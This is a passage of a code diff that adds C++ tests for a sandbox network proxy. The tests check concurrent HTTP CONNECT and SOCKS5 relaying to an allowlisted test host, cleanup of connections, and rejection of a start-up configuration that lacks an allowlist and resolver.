+          good = StatusCode(Connect(fd.get(), Allowed(echo_.port()))) == 200;
+        } else {
+          good = Socks5Handshake(fd.get()) == 0 &&
+                 Socks5Request(fd.get(), 1, 3, "allowed.test", echo_.port()) == 0;
+        }
+        const std::string message = absl::StrCat("client ", t, " round ", i);
+        good =
+            good && SendAll(fd.get(), message) && ReadExactly(fd.get(), message.size()) == message;
+        if (good) ++ok;
+      }
+    });
+  }
+  for (std::thread& c : clients) c.join();
+  EXPECT_EQ(ok.load(), 16 * 20);
+  absl::SleepFor(absl::Milliseconds(100));
+  EXPECT_EQ(proxies->open_connections(), 0u);
+}
+
+TEST(SessionProxiesStart, NeedsAnAllowlistAndAResolver) {
+  EventLoop loop;
+  EXPECT_EQ(SessionProxies::Start(loop, SessionProxiesOptions()).status().code(),
+            absl::StatusCode::kInvalidArgument);
+}
+
+}  // namespace
+}  // namespace ccsandbox::proxy
